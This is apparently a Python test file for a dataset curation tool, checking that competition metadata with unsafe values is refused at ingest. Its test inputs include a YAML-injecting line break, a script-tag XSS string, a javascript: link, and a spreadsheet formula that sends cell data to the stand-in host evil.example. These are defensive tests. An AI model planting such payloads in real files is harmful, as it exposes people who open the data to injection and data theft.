"""Competition metadata that a release could not carry as it is is refused at ingest, one line naming the file and
the field (issue 27): a name over several lines, HTML markup, a name a spreadsheet would run as a formula, a link
that is not http(s). A name that merely looks odd but is plain text on one line goes through."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from curation.config import IngestSettings, MetaKaggleSettings
from curation.records import IngestedCompetition
from curation.sources import RejectedCompetition
from curation.sources.meta_kaggle import MetaKaggleDump
from tests.sources.test_folders import YAML, lines, make, read
from tests.sources.test_meta_kaggle import COMPETITION_COLUMNS, SEGMENTS, dump, write_csv  # noqa: F401 (a fixture)

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click for the data")'


@pytest.mark.parametrize("field, yaml_value, said", [
    ("comp_name", '"Titanic\\n---\\npretty_name: hacked"',
     "field 'comp_name': has a line break or control character ('\\n'); write it on one line"),
    ("comp_name", "|\n  Titanic\n  second line", "field 'comp_name': has a line break or control character"),
    ("comp_name", '"Titanic <script>alert(1)</script>"',
     "field 'comp_name': holds HTML markup (a script tag); write plain text"),
    ("comp_name", f"'{FORMULA}'",
     "field 'comp_name': starts with '=', so a spreadsheet opening the release's tasks CSV would run it as a formula; "
     "write plain text"),
    ("metric", '"@SUM(1,2)"', "field 'metric': starts with '@', so a spreadsheet"),
    ("competition_link", '"javascript:alert(1)"',
     "field 'competition_link': is not an http(s) link (it starts with javascript); give the address of the competition's "
     "page (https://...), or leave the field out for the Kaggle page"),
    ("competition_link", '"ftp://example.com/titanic"', "field 'competition_link': is not an http(s) link (it starts with ftp)"),
])
def test_metadata_a_release_cannot_carry_refuses_the_competition_naming_the_field(tmp_path, field, yaml_value, said):
    text = YAML.format(slug="titanic")
    text = (text.replace('comp_name: "A competition"', f"comp_name: {yaml_value}") if field == "comp_name" else
            text.replace("metric: Accuracy", f"metric: {yaml_value}") if field == "metric" else
            text + f"{field}: {yaml_value}\n")
    make(tmp_path, "titanic", yaml_text=text)
    make(tmp_path, "other")

    items = read(tmp_path)

    assert isinstance(items["titanic"], RejectedCompetition)
    [line] = lines(items["titanic"])
    assert line.startswith(f"titanic/competition.yaml: {said}"), line
    assert isinstance(items["other"], IngestedCompetition)


def test_plain_text_that_only_looks_odd_goes_through(tmp_path):
    text = YAML.format(slug="titanic").replace('comp_name: "A competition"',
                                               'comp_name: "Titanic --- predict y < 5 & x > 3 (2 - 1)"')
    make(tmp_path, "titanic", yaml_text=text + 'competition_link: "HTTPS://www.kaggle.com/c/titanic?tab=data"\n')

    item = read(tmp_path)["titanic"]

    assert isinstance(item, IngestedCompetition), lines(item)
    assert item.competition.comp_name == "Titanic --- predict y < 5 & x > 3 (2 - 1)"


def test_a_meta_kaggle_title_a_spreadsheet_would_run_is_refused_naming_the_row(dump):  # noqa: F811 (the fixture)
    rows = list(csv.DictReader((dump / "Competitions.csv").open(encoding="utf-8")))
    for row in rows:
        if row["Slug"] == "titanic":
            row["Title"] = FORMULA
    write_csv(dump / "Competitions.csv", COMPETITION_COLUMNS, rows)
    reader = MetaKaggleDump(dump, IngestSettings(meta_kaggle=MetaKaggleSettings(host_segments=SEGMENTS)),
                            base=dump.parent)

    items = {item.competition if isinstance(item, RejectedCompetition) else item.competition.competition: item
             for item in reader}

    assert isinstance(items["titanic"], RejectedCompetition)
    assert [problem.line() for problem in items["titanic"].problems] == [
        "meta-kaggle/Competitions.csv: competition 1 ('titanic'): Title starts with '=', so a spreadsheet opening the "
        "release's tasks CSV would run it as a formula; write plain text (in that row)"]
    assert isinstance(items["house-prices"], IngestedCompetition)


def test_the_sample_competitions_are_all_plain(tmp_path):
    sample = Path(__file__).resolve().parents[2] / "data" / "sample"
    problems = [line for item in read(sample).values() for line in lines(item) if "field '" in line]
    assert problems == []
